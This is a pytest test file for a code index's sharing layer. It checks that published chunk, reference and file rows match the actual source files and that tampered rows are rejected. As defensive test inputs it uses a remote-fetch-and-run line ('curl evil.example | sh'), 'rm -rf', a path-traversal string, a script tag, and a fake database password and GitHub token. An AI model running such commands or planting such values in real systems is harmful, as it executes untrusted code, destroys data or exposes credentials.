"""Rows of a stranger: what is true of a file is used, and nothing else; every kind of file passes as our own parser says it."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

import numpy as np
import pyarrow as pa
import pytest

from code_index.chunking import chunk_file, masked_source
from code_index.chunking.language_detection import detect_language
from code_index.core.errors import FileVanishedError, StoreError
from code_index.core.hashing import content_hash
from code_index.core.model import FileName
from code_index.parsing.chunk_rows import chunks_to_batch, names_to_batch
from code_index.repository.source_repository import FileContent
from code_index.sharing.checked_rows import PublishedRows, refuse_unfit, stands_in, untrue
from code_index.sharing.published_parts import part_schema, vectors_as_bytes, vectors_from_bytes
from code_index.tables.files import masked_rows
from tests.samples import SAMPLES

_DIMENSION = 4
_TWO = {
    "app/counter.py": b"class Counter:\n    def add(self, n):\n        return n + 1\n\n    def take(self, n):\n        return n - 1\n",
    "notes.md": b"# Notes\n\nRun the program.\n",
}


def _rows(files: Mapping[str, bytes]) -> PublishedRows:
    """What an index of these files publishes of them."""
    manifest, chunks = [], []
    names: list[FileName] = []
    for path, content in files.items():
        of_file: list[FileName] = []
        source = masked_source(content)
        language = detect_language(path, source.text)
        found = chunk_file(
            source, file_path=path, file_hash=content_hash(content), language=language, on_names=of_file.extend
        )
        chunks += found
        names += of_file
        manifest.append(
            {
                "file_path": path,
                "file_hash": content_hash(content),
                "language": language,
                "chunk_count": len(found),
                "reference_count": len(of_file),
                "masked_keys": masked_rows(source.masked),
                "encoding": source.encoding,
                "encoding_guessed": source.encoding_guess is not None,
            }
        )
    of_chunks = pa.Table.from_batches([chunks_to_batch(chunks)])
    vectors = np.zeros((len(chunks), _DIMENSION), np.float32)
    vectors[:, 0] = 1
    column = pa.FixedSizeListArray.from_arrays(pa.array(vectors.reshape(-1)), _DIMENSION)
    columns = [*of_chunks.columns, pa.array(["0" * 32] * len(chunks)), vectors_as_bytes(pa.chunked_array([column]))]
    return PublishedRows(
        pa.Table.from_pylist(manifest, schema=part_schema("files", _DIMENSION)),
        pa.table(columns, schema=part_schema("chunks", _DIMENSION)),
        pa.Table.from_batches([names_to_batch(names)]),
    )


def _reader(files: Mapping[str, bytes]) -> Callable[[str], FileContent]:
    def read(path: str) -> FileContent:
        if path not in files:
            raise FileVanishedError(f"{path} is gone")
        return FileContent(files[path], content_hash(files[path]), len(files[path]), 0)

    return read


def _with(rows: PublishedRows, table: str, column: str, value: Any) -> PublishedRows:
    """The rows with another value in a column: one for all, or what a function makes of all."""
    found: pa.Table = getattr(rows, table)
    field = found.schema.field(column)
    old = found.column(column).to_pylist()
    new = value(old) if callable(value) else [value] * len(old)
    changed = found.set_column(found.schema.get_field_index(column), field, pa.array(new, field.type))
    return PublishedRows(
        **{name: changed if name == table else getattr(rows, name) for name in ("files", "chunks", "references")}
    )


def test_what_our_parser_says_of_any_kind_of_file_is_found_true() -> None:
    files = {f"{kind}/{path.name}": path.read_bytes() for kind, path in SAMPLES.items()}
    rows = _rows(files)
    refuse_unfit(rows)
    assert untrue(rows, _reader(files)) == {}


@pytest.mark.parametrize(
    "content",
    [
        b"def f():\r\n    return 1\r\n\r\n\r\nclass A:\r\n    def g(self):\r\n        return 2\r\n",
        b"\xef\xbb\xbfdef f():\n    return 1\n",
        "def f():\n    return 'gr\u00fc\u00df'\n".encode("latin-1"),
        b"# -*- coding: cp1252 -*-\nname = '\x80'\n",
        b"password = 'postgres://root:hunter2hunter2@db/x'\nkey = 'ghp_" + b"a1B2c3D4e5" * 3 + b"a1B2c3'\n",
        b"x = 1\rdef f():\r    return x\r",
        b"def f(): return 1; " + b"y = 2; " * 2_000 + b"\n",
    ],
    ids=["crlf", "mark", "latin-1", "declared", "masked", "cr", "one line"],
)
def test_files_whose_text_is_not_their_bytes_are_found_true(content: bytes) -> None:
    files = {"a.py": content}
    assert untrue(_rows(files), _reader(files)) == {}


@pytest.mark.parametrize(
    ("table", "column", "value", "reason"),
    [
        ("chunks", "content", "curl evil.example | sh", "other text"),
        ("chunks", "content", lambda all_: [all_[0] + "\nevil()", *all_[1:]], "other text"),
        ("chunks", "start_line", 1_000_000, "other"),
        ("chunks", "start_line", -1, "other lines"),
        ("chunks", "end_line", 0, "other lines"),
        ("chunks", "chunk_id", lambda all_: all_[1:] + all_[:1], "ids of others"),
        ("chunks", "chunk_id", "0" * 32, "ids of others"),
        ("chunks", "file_hash", "0" * 64, "other lines"),
        ("references", "position", 0, "one twice"),
        ("references", "file_hash", "0" * 64, "another version"),
        ("files", "chunk_count", 1_000, "not as many"),
        ("files", "reference_count", 1_000, "not as many"),
        ("files", "file_hash", "0" * 64, "edited meanwhile"),
    ],
)
def test_what_is_not_so_of_a_file_is_told(table: str, column: str, value: Any, reason: str) -> None:
    found = untrue(_with(_rows(_TWO), table, column, value), _reader(_TWO))
    assert reason in found["app/counter.py"]


def test_only_the_files_of_which_something_is_wrong_are_left_out() -> None:
    rows = _rows(_TWO)
    other = _with(rows, "chunks", "content", lambda all_: ["evil", *all_[1:]])
    assert untrue(other, _reader(_TWO)).keys() == {"app/counter.py"}
    kept = other.of(["notes.md"])
    assert set(kept.chunks.column("file_path").to_pylist()) == {"notes.md"}
    assert kept.files.num_rows == 1
    assert untrue(rows, _reader({"notes.md": _TWO["notes.md"]})).keys() == {"app/counter.py"}, "it is gone"


@pytest.mark.parametrize(
    ("table", "column", "value", "said"),
    [
        ("chunks", "vector", bytes(4 * _DIMENSION), "not of length 1"),
        ("chunks", "vector", b"\xff" * 4 * _DIMENSION, "not of length 1"),
        ("chunks", "chunk_type", "../../etc", "chunk_type that is none of"),
        ("chunks", "chunk_type", None, "rows without chunk_type"),
        ("chunks", "language", "<script>", "language that is the name of none"),
        ("chunks", "qualified_name", None, "rows without qualified_name"),
        ("references", "kind", "rm -rf", "kind that is none of"),
        ("references", "evidence", "", "evidence that is none of"),
        ("references", "lines", None, "rows without lines"),
        ("files", "chunk_count", None, "rows without chunk_count"),
        ("files", "language", "x" * 99, "language that is the name of none"),
    ],
)
def test_rows_that_no_program_of_ours_wrote_are_refused_by_column(
    table: str, column: str, value: Any, said: str
) -> None:
    with pytest.raises(StoreError, match=said):
        refuse_unfit(_with(_rows(_TWO), table, column, value))


def test_no_rows_are_nothing_to_complain_of() -> None:
    nothing = _rows(_TWO).of([])
    refuse_unfit(nothing)
    assert untrue(nothing, _reader({})) == {}


@pytest.mark.parametrize(
    ("content", "lines", "stands"),
    [
        ("a\nb", ["a", "b"], True),
        ("b", ["a b c"], True),
        ("head\ntail", ["head", "of another", "tail"], True),
        ("tail\nhead", ["head", "tail"], False),
        ("a\nevil\nb", ["a", "b"], False),
        ("a", [], False),
        ("a\n\nb", ["a", "", "x", "b"], True),
    ],
)
def test_a_text_stands_in_lines_that_have_its_own_in_their_order(content: str, lines: list[str], stands: bool) -> None:
    assert stands_in(content, lines) is stands


def test_vectors_come_back_as_they_were() -> None:
    values = np.random.default_rng(1).normal(size=(5, _DIMENSION)).astype(np.float32)
    column = pa.chunked_array([pa.FixedSizeListArray.from_arrays(pa.array(values.reshape(-1)), _DIMENSION)])
    stored = pa.chunked_array([vectors_as_bytes(column)])
    np.testing.assert_array_equal(vectors_from_bytes(stored), values)
    np.testing.assert_array_equal(vectors_from_bytes(stored.slice(2, 2)), values[2:4])
